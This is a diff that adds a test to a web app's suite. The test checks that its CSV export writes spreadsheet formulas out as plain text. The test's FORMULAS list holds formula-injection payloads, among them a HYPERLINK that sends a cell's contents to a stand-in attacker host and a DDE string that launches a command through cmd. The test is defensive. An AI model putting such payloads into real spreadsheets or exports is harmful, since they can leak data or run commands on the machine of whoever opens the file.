@@ -822,3 +822,33 @@ def test_admin_lists_and_edits_for_staff_only(client, coordinator, platform, str
 
     assert refused == [302] * len(pages)
     assert allowed == [200] * len(pages)
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+]
+
+
+def test_csv_export_writes_formulas_as_text(client, crew, board, columns):
+    """A member's card title (and any other cell) that a spreadsheet would evaluate
+    reaches the coordinator's CSV as text."""
+    from tasks.models import Card
+
+    for n, formula in enumerate(FORMULAS):
+        Card.objects.create(board=board, column=columns[0], position=f"a{n}", title=formula)
+    Card.objects.create(board=board, column=columns[0], position="b0", title="普通の-カード")
+    client.force_login(crew["coordinator"])
+
+    response = client.get(reverse("platforms:platform-export", args=[board.platform_id, "csv"]))
+
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    titles = [row[1] for row in rows if row[0] == board.name]
+    assert sorted(titles) == sorted(["'" + f for f in FORMULAS] + ["普通の-カード"])
+    cells = [cell for row in rows for cell in row]
+    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "＝")] == []
